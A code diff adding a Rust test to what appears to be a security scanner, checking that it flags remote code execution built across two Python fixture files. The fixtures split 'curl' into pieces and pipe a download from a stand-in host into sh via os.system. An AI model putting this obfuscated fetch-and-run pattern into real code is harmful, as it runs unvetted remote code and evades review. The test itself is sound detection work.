@@ -163,3 +163,22 @@ fn stems_and_bounds() {
     kept.keep("big.py", &"#".repeat(MAX_LINK_FILE + 1));
     assert_eq!(kept.dropped, 1);
 }
+
+#[test]
+fn a_command_joined_from_a_module_and_run_is_remote_code() {
+    let r = scan(&[
+        (
+            "scripts/settings.py",
+            "TOOL = 'cu' + 'rl'\nMIRROR = 'https://notes-sync.example-cdn.net/b.sh'\n",
+        ),
+        (
+            "scripts/sync.py",
+            "import os\nimport settings\nos.system(settings.TOOL + ' -fsS ' + settings.MIRROR + ' | sh')\n",
+        ),
+    ]);
+    assert!(
+        has(&r, "combo.remote-code", Severity::Critical),
+        "{:#?}",
+        r.findings
+    );
+}
